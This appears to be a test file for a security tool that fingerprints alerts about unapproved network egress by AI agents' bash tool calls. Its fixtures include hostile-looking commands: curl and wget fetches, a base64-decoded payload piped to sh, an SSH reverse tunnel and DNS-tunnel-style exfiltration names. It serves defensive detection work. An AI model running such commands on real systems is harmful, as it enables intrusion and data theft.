import { describe, expect, it } from 'vitest';
import { commandShape, fingerprintOf, shapeOf } from '../../../src/core/findings/fingerprint.ts';
import type { Attribution } from '../../../src/model/attribution.ts';
import type { Micros } from '../../../src/model/time.ts';
import { timeOf } from '../../event-time.ts';

interface Facts {
  readonly command?: string;
  readonly domain?: string;
  readonly verdict?: Attribution['verdict'];
  readonly at?: number;
  readonly episode?: string;
  readonly file?: string;
}

function finding({
  command = 'curl http://198.51.100.9/x',
  domain,
  verdict = 'proven',
  at = 0,
  episode = 'e-1',
  file = 'a.log',
}: Facts): Attribution {
  const time = (1_767_225_600_000_000 + at) as Micros;
  const ref = { source: file, line: 1 + at, offset: at, bytes: 9 };
  return {
    violation: {
      id: `v-${String(at).padStart(12, '0')}`,
      finding: {
        rule: { id: 'R1', name: 'rule' },
        category: 'unapproved-egress',
        severity: 'high',
        strength: 'verdict',
        attack: [],
        atlas: [],
      },
      event: {
        kind: 'network',
        type: 'alert',
        action: 'deny',
        src: { ip: '192.0.2.7', port: 40_000 + at },
        dst: { ip: '198.51.100.9', port: 443, ...(domain === undefined ? {} : { domain }) },
        time: timeOf(time, 'packet'),
        ref,
        format: 'x',
        clock: 'x',
      },
      alsoSeen: [],
      count: 1,
      first: time,
      last: time,
    },
    verdict,
    probability: 0.99,
    episode: { id: episode },
    toolCall: { id: `call-${at}`, name: 'bash', command, ref },
    process: { pid: 100 + at, executable: '/usr/bin/curl' },
    candidates: [],
    nullProbability: 0,
    evidence: [],
    missing: [],
    reason: '',
    incident: 'i-1',
  };
}

describe('the fingerprint of a finding', () => {
  it('is the same whatever its time, file, episode, ports and ids', () => {
    const one = fingerprintOf(finding({}));
    expect(one).toMatch(/^f-[0-9a-f]{16}$/);
    expect(fingerprintOf(finding({ at: 977, file: 'a.log.1', episode: 'e-2' }))).toBe(one);
    // A little more or less evidence is no other finding.
    expect(fingerprintOf(finding({ verdict: 'likely' }))).toBe(one);
  });

  it.each([
    ['another destination', finding({ domain: 'mirror.example' })],
    ['another command', finding({ command: 'wget http://198.51.100.9/x' })],
    ['nobody named', finding({ verdict: 'ambiguous' })],
    ['no agent', finding({ verdict: 'not-agent' })],
    ['another payload', finding({ command: 'echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= | base64 -d | sh' })],
  ])('differs: %s', (_, other) => {
    expect(fingerprintOf(other)).not.toBe(fingerprintOf(finding({})));
  });

  it.each([
    ['blanks', 'curl   -s \n x', 'curl -s x'],
    ['a uuid', 'run 2f1c0a52-9b6e-4f7a-8a55-0c1d2e3f4a5b', 'run #'],
    ['a digest', 'git checkout 9fceb02d0ae598e95dc970b74767f19372d61af8', 'git checkout #'],
    ['an epoch', 'touch /tmp/out-1767225600123', 'touch /tmp/out-#'],
    ['a secret', 'curl -H "Authorization: Bearer abcdefghijklmnop0123"', 'curl -H "Authorization: Bearer [redacted]"'],
    [
      'nothing: address, port and name stay',
      'ssh -R 2222:localhost:22 -p 443 ops@198.51.100.77',
      'ssh -R 2222:localhost:22 -p 443 ops@198.51.100.77',
    ],
    ['nothing: a word of hex letters stays', 'cat facade deadbeef', 'cat facade deadbeef'],
  ])('a command without what passes: %s', (_, command, shape) => {
    expect(commandShape(command)).toBe(shape);
  });

  it.each([
    ['mirror.example', 'mirror.example:443'],
    ['node1.corp.example', 'node1.corp.example:443'],
    ['mfzwizltoqytenbqgq2dsmbu.3.9491.t.cdn-sync.example', '*.t.cdn-sync.example:443'],
    ['mfzwizltoqytenbqgq2dsmbu.4.0cfb.t.cdn-sync.example', '*.t.cdn-sync.example:443'],
  ])('a queried name %s is %s', (domain, shape) => {
    expect(shapeOf(finding({ domain })).destination).toBe(shape);
  });
});
